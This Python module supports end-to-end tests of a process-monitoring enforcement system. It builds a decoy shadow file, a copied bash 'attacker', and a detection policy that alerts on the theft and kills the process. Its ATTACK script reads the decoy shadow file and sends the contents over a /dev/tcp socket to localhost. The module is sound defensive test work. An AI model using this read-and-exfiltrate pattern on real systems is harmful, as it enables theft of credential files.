"""The whole system on the real kernel, with a program of the test's own to attack: what the end-to-end tests share."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from types import TracebackType
from typing import Any, Self

from deploy.foreground.stack import READY_TIMEOUT_S, Stack
from tests.support.pace import patient

#: read | connect | send, each step on a line from standard input, so that a test decides when the next one comes.
ATTACK = """
read -r _; read -r stolen < decoy/shadow
read -r _; exec 3<> "/dev/tcp/127.0.0.1/$1"; printf 'hello' >&3
read -r _; printf '%s' "$stolen" >&3
read -r _; echo through
"""


class Arena:
    """A folder with a decoy and an attacker (a copy of bash), policies that name it by path, and a running Stack."""

    def __init__(self, folder: Path, policy: str = "", **settings: Any) -> None:
        """policy: text in which ATTACKER and DECOY stand for the paths; default: THEFT. settings: as of Stack."""
        self.dir = folder
        self.policies = folder / "policies"
        self.attacker = folder / "attacker"
        self.decoy = folder / "decoy" / "shadow"
        self.policies.mkdir(mode=0o755)
        self.decoy.parent.mkdir()
        self.decoy.write_text("root:$6$decoy$nothing:20000:0:99999:7:::\n")
        bash = shutil.which("bash")
        assert bash
        shutil.copy(bash, self.attacker)
        self.write_policy("theft.policy", policy or THEFT)
        # who kills must not depend on how busy the machine is, so the enforcer has a second
        policyd = {"policy_dirs": [str(self.policies)], "sinks": ["file"], "order_timeout_ms": 1000}
        policyd |= settings.pop("policyd", {})
        tracerd = {"heartbeat_s": 0.2, **settings.pop("tracerd", {})}
        configured = {"mode": "enforce", **settings, "policyd": policyd, "tracerd": tracerd}
        self.stack = Stack(folder, configured, ready_timeout_s=patient(READY_TIMEOUT_S))
        self._attacks: list[Attack] = []

    def write_policy(self, name: str, text: str) -> None:
        file = self.policies / name
        file.write_text(text.replace("ATTACKER", str(self.attacker)).replace("DECOY", str(self.decoy)))
        file.chmod(0o644)

    def __enter__(self) -> Self:
        self.stack.__enter__()
        try:
            self.await_watching()
        except BaseException:
            self.stack.close()
            raise
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        for attack in self._attacks:
            attack.close()
        self.stack.close()

    def status(self, daemon: str) -> dict[str, Any]:
        with self.stack.control(daemon, patient(5)) as control:
            found: dict[str, Any] = control.call("status")
            return found

    def await_watching(self, timeout_s: float = 10.0) -> None:
        """Until policyd has subscribed and every hook it needs is attached."""

        def watching() -> bool:
            status = self.status("tracerd")
            return status["subscriber"] and all(h["attached"] for h in status["hooks"].values() if h["needed"])

        eventually(watching, timeout_s)

    def attack(self, port: int, *arguments: str) -> Attack:
        """arguments: more of them for the attacker, which makes nothing of them."""
        attack = Attack(self, port, *arguments)
        self._attacks.append(attack)
        return attack

    def alerts(self) -> list[dict[str, Any]]:
        file = self.dir / "state" / "policyd" / "alerts.jsonl"
        if not file.exists():
            return []
        # the last line may be in the making
        return [json.loads(line) for line in file.read_text().splitlines(keepends=True) if line.endswith("\n")]

    def await_alert(self, found: Callable[[dict[str, Any]], bool], timeout_s: float = 10.0) -> dict[str, Any]:
        eventually(lambda: any(found(alert) for alert in self.alerts()), timeout_s)
        return next(alert for alert in self.alerts() if found(alert))

    @property
    def ctl_command(self) -> list[str]:
        """How to run execray-ctl against this stack."""
        return [str(Path(sys.executable).with_name("execray-ctl")), "--config", str(self.stack.config)]

    def ctl(self, *args: str) -> subprocess.CompletedProcess[str]:
        """Runs execray-ctl against this stack."""
        return subprocess.run(
            [*self.ctl_command, *args], capture_output=True, text=True, check=False, timeout=patient(30)
        )


class Attack:
    """One attacker, a step at a time."""

    def __init__(self, arena: Arena, port: int, *arguments: str) -> None:
        self.process = subprocess.Popen(
            [arena.attacker, "-c", ATTACK, "attack", str(port), *arguments],
            cwd=arena.dir,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
        )
        self.pid = self.process.pid

    def step(self, count: int = 1) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write(b"\n" * count)
        self.process.stdin.flush()

    def wait(self, timeout_s: float = 10.0) -> int:
        return self.process.wait(patient(timeout_s))

    def close(self) -> None:
        self.process.kill()
        self.process.wait()
        for pipe in (self.process.stdin, self.process.stdout):
            assert pipe is not None
            try:
                pipe.close()
            except BrokenPipeError:
                continue  # what was written to a process that is gone


def eventually(condition: Callable[[], bool], timeout_s: float = 10.0) -> None:
    """Waits for a condition, looking every 20 ms."""
    end = time.monotonic() + patient(timeout_s)
    while not condition():
        assert time.monotonic() < end, "it never came"
        time.sleep(0.02)


def killed(status: int) -> bool:
    return status == -signal.SIGKILL


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


THEFT = """
policy "theft" key process within 1m response enforce {
    meta { severity: critical attack: ["T1003.008"] }
    open    { path = "DECOY" exe = "ATTACKER" } as theft
    connect { family in [AF_INET, AF_INET6] } as out
    write   { content contains "root:" }
    on step out { capture net for 2s max 1MiB }
    on match    { alert critical; kill }
}
"""
